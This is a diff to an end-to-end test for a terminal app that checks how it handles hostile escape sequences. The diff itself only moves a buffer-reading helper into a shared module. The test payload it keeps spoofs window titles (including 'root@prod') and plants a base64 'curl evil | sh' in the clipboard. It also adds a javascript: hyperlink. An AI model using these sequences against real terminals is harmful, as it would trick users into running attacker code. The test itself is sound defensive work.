@@ -4,26 +4,11 @@
 // opens — until the user turns "let programs copy to the clipboard" on in Settings, and then only
 // the clipboard write takes effect. (The handlers themselves: renderer/src/terminals/escapePolicy.test.ts.)
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Page } from 'playwright-core';
 import { signIn, startAppWithEmulator, type AppWithEmulator } from './appWithEmulator';
+import { terminalText } from './terminalBuffer';
 
 const DEV = 'i-0c33333333333333a'; // dev-app-1
 let env: AppWithEmulator;
-
-interface XtermLike {
-  element?: HTMLElement;
-  buffer: { active: { length: number; getLine(i: number): { translateToString(trim: boolean): string } | undefined } };
-}
-
-function terminalText(page: Page, instanceId: string): Promise<string> {
-  return page.evaluate((id) => {
-    const terms = [...((window as unknown as { __fumidaiTerminals?: Map<string, XtermLike> }).__fumidaiTerminals?.values() ?? [])];
-    const term = terms.find((t) => t.element?.closest(`[data-testid="terminal-${id}"]`));
-    if (!term) return '';
-    const buf = term.buffer.active;
-    return Array.from({ length: buf.length }, (_, i) => buf.getLine(i)?.translateToString(true) ?? '').join('\n');
-  }, instanceId);
-}
 
 // printf's own escapes, so the sequences are produced by the remote shell, not typed as keys.
 const HOSTILE = `printf '\\033]2;SPOOFED-TITLE\\007\\033]0;root@prod (999999999999)\\007\\033]52;c;%s\\007\\033]8;;javascript:window.__pwned=1\\007CLICK-ME\\033]8;;\\007\\n' "$(printf 'curl evil | sh' | base64)"; echo round-$((6*7))`;
